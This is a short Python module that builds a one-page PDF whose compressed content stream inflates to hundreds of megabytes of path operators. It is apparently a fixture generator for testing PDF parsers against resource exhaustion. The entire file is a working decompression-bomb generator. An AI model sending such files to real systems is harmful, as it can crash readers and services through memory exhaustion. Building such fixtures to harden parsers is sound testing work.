"""A decompression bomb: a small, valid PDF whose one content stream inflates to hundreds of megabytes."""

from __future__ import annotations

import zlib

PATH_OPERATOR = b"0 0 m\n"  # a moveto: every one is parsed and kept by a PDF reader that walks the stream


def bomb_pdf(inflated_mb: int, operator: bytes = PATH_OPERATOR) -> bytes:
    """A one-page PDF whose content stream is ``inflated_mb`` MB of ``operator``, Flate-compressed
    (about 650:1 for a moveto: 500 MB in about 770 KB)."""
    compressor = zlib.compressobj(9)
    megabyte = operator * (2**20 // len(operator))
    stream = b"".join(compressor.compress(megabyte) for _ in range(inflated_mb)) + compressor.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)
